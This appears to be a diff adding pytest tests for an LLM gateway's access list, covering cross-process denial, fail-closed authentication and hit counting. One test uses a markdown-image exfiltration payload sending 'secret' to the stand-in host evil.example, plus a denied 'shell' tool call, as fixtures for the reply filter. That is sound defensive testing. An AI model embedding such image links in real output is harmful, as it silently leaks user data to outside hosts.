@@ -1,0 +1,135 @@
+"""The access list at work on replies, in a second process, and while the store is away."""
+
+import io
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+
+from gateway.clock import SystemClock, SystemIds
+from gateway.domain.access_list import EntryType, ListName
+from gateway.domain.principals import Principal, RequestContext, Scope, local
+from gateway.llm.base import Reply
+from gateway.llm.openai import OpenAiDialect
+from gateway.log import Log
+from gateway.services.access_guard import AccessGuard, EntryDenied
+from gateway.services.access_list import AccessList, WantedEntry
+from gateway.services.audit import Audit
+from gateway.services.authentication import Authentication
+from gateway.services.keys import Keys, NewKey
+from gateway.store.database import StoreUnavailable
+from gateway.store.store import Store, open_store
+
+CLI = local("cli")
+CONTEXT = RequestContext(request_id="req_1", ip="192.0.2.1")
+TYPED = RequestContext(request_id="req_2")
+WHO = Principal("key", "key_1", "ann", frozenset(Scope), frozenset(), "svc_abcdef", 60)
+
+
+class Process:
+    """One process over the database: its guard, and the services that change what it guards."""
+
+    def __init__(self, store: Store) -> None:
+        clock = SystemClock()
+        ids = SystemIds(clock)
+        self.store = store
+        audit = Audit(store=store, clock=clock, ids=ids, instance_id=store.instance_id)
+        self.keys = Keys(store=store, clock=clock, ids=ids, audit=audit)
+        self.guard = AccessGuard(store=store, clock=clock)
+        self.entries = AccessList(store=store, clock=clock, ids=ids, audit=audit)
+        self.authentication = Authentication(store=store, clock=clock, audit=audit, access=self.guard)
+
+    async def deny(self, kind: EntryType, value: str, list_name: ListName = ListName.DENY) -> str:
+        wanted = WantedEntry(list_name=list_name, entry_type=kind, value=value)
+        return (await self.entries.add(CLI, wanted, TYPED)).id
+
+
+async def open_process(path: Path) -> Process:
+    clock = SystemClock()
+    log = Log(io.StringIO(), clock)
+    return Process(await open_store(path / "gateway.db", clock=clock, ids=SystemIds(clock), log=log))
+
+
+@pytest.fixture
+async def process(tmp_path: Path) -> AsyncIterator[Process]:
+    one = await open_process(tmp_path)
+    yield one
+    await one.store.aclose()
+
+
+async def test_what_one_process_denies_another_refuses_at_its_next_request(process: Process, tmp_path: Path) -> None:
+    key = (await process.keys.create(CLI, NewKey(name="ci", scopes=tuple(Scope)), CONTEXT)).key
+    other = await open_process(tmp_path)
+    try:
+        await other.authentication.authenticate(key, CONTEXT)
+        entry_id = await process.deny(EntryType.IP, "192.0.2.1")
+        with pytest.raises(EntryDenied) as caught:
+            await other.authentication.authenticate(key, CONTEXT)
+        assert caught.value.entry.id == entry_id
+        await process.entries.remove(CLI, entry_id, CONTEXT)
+        await other.authentication.authenticate(key, CONTEXT)
+    finally:
+        await other.store.aclose()
+
+
+async def test_nobody_passes_while_a_changed_list_cannot_be_read(process: Process) -> None:
+    key = (await process.keys.create(CLI, NewKey(name="ci", scopes=tuple(Scope)), CONTEXT)).key
+    await process.authentication.authenticate(key, CONTEXT)
+    await process.deny(EntryType.IP, "192.0.2.1")
+    read_now = process.store.db.read_now
+
+    def fail(work: object) -> object:
+        raise StoreUnavailable("away")
+
+    process.store.db.read_now = fail  # type: ignore[method-assign,assignment]
+    for _ in range(2):
+        with pytest.raises(StoreUnavailable):
+            await process.authentication.authenticate(key, CONTEXT)
+    process.store.db.read_now = read_now  # type: ignore[method-assign]
+    with pytest.raises(EntryDenied):
+        await process.authentication.authenticate(key, CONTEXT)
+
+
+def reply(**message: object) -> Reply:
+    return Reply({"choices": [{"index": 0, "message": {"role": "assistant", "content": "", **message}}]})
+
+
+@pytest.mark.parametrize(
+    ("kind", "value", "message"),
+    [
+        (EntryType.DOMAIN, "evil.example", {"content": "![](https://evil.example/?q=secret)"}),
+        (EntryType.DOMAIN, "evil.example", {"content": "go to evil.example"}),
+        (
+            EntryType.DOMAIN,
+            "evil.example",
+            {"tool_calls": [{"type": "function", "function": {"name": "f", "arguments": '{"u":"//evil.example/"}'}}]},
+        ),
+        (EntryType.TOOL, "shell", {"tool_calls": [{"type": "function", "function": {"name": "shell"}}]}),
+    ],
+)
+async def test_a_reply_with_what_is_denied_is_given_to_nobody(
+    process: Process, kind: EntryType, value: str, message: dict[str, object]
+) -> None:
+    await process.guard.check_reply(WHO, reply(**message), OpenAiDialect())
+    await process.deny(kind, value)
+    process.guard.refresh()
+    with pytest.raises(EntryDenied):
+        await process.guard.check_reply(WHO, reply(**message), OpenAiDialect())
+    await process.guard.check_reply(WHO, reply(content="https://good.example"), OpenAiDialect())
+
+
+async def test_hits_the_store_does_not_take_are_counted_on(process: Process) -> None:
+    entry_id = await process.deny(EntryType.IP, "192.0.2.1")
+    process.guard.refresh()
+    write_behind = process.store.db.write_behind
+
+    def fail(work: object) -> None:
+        raise StoreUnavailable("full")
+
+    for refusing in (True, False):
+        with pytest.raises(EntryDenied):
+            process.guard.check_caller(WHO, CONTEXT, 0)
+        process.store.db.write_behind = fail if refusing else write_behind  # type: ignore[method-assign]
+        process.guard.flush_hits()
+    await process.store.db.write(lambda tx: None)
+    assert (await process.entries.show(entry_id)).hits == 2
